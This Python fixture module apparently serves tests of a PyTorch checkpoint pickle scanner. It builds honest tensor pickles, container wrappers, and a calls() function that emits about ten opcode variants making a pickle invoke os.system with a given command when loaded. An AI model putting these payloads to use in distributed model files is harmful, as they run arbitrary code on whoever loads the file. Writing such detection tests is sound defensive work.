"""Pickles of checkpoints written by hand, honest and hostile, and the containers around them."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections.abc import Callable
from typing import Any

LEGACY = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03."
LITTLE = pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2)


def in_zip(content: bytes, **entries: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a/data.pkl", content)
        for name, data in {"version": b"3\n", **entries}.items():
            archive.writestr(f"a/{name}", data)
    return buffer.getvalue()


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "pickle": lambda content: content,
    "zip": in_zip,
    "torchscript": lambda content: in_zip(content, **{"constants.pkl": b"\x80\x02)."}),
    "old": lambda content: LEGACY + LITTLE + content + b"\x80\x02].",
    "old sizes": lambda content: LEGACY + content,
    "old keys": lambda content: LEGACY + LITTLE + b"\x80\x02}." + content,
    "old magic": lambda content: content + LEGACY,
    "nested": lambda content: load_from_bytes(LEGACY + LITTLE + content + b"\x80\x02]."),
}


def load_from_bytes(data: bytes) -> bytes:
    argument = b"B" + struct.pack("<I", len(data)) + data
    return b"\x80\x03ctorch.storage\n_load_from_bytes\n" + argument + b"\x85R."


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def calls(command: str) -> dict[str, bytes]:
    """The ways for a pickle to call os.system."""
    argument = text(command)
    return {
        "reduce": b"\x80\x02cos\nsystem\n" + argument + b"\x85R.",
        "stack_global": b"\x80\x04" + text("os") + text("system") + b"\x93" + argument + b"\x85R.",
        "memoized": b"\x80\x02"
        + text("os")
        + b"q\x00"
        + text("system")
        + b"q\x01h\x00h\x01\x93"
        + argument
        + b"\x85R.",
        "inst": b"\x80\x02(" + argument + b"ios\nsystem\n.",
        "obj": b"\x80\x02(cos\nsystem\n" + argument + b"o.",
        "duplicated": b"\x80\x02cos\nsystem\n20" + argument + b"\x85R.",
        "popped": b"\x80\x02cos\nsystem\n" + argument + b"\x85R0}.",
        "in_build": b"\x80\x02ctorch.nn\nModule\n)\x81cos\nsystem\n" + argument + b"\x85Rb.",
        "in_pid": b"\x80\x02cos\nsystem\n" + argument + b"\x85RQ.",
        "as_type": b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nN" + argument + b"\x85}tR.",
    }


def rebuilt(storage: bytes, offset: int, size: tuple[Any, ...], stride: tuple[Any, ...]) -> bytes:
    rest = b"".join(pickle.dumps(value, 2)[2:-1] for value in (offset, size, stride))
    return (
        b"\x80\x02}"
        + text("visual.proj")
        + b"ctorch._utils\n_rebuild_tensor_v2\n("
        + storage
        + rest
        + b"\x89}tRs."
    )


def identity(count: int, kind: str = "FloatStorage", key: str = "0") -> bytes:
    return (
        b"(" + text("storage") + f"ctorch\n{kind}\n".encode() + text(key) + text("cpu")
        + pickle.dumps(count, 2)[2:-1] + b"tQ"
    )  # fmt: skip
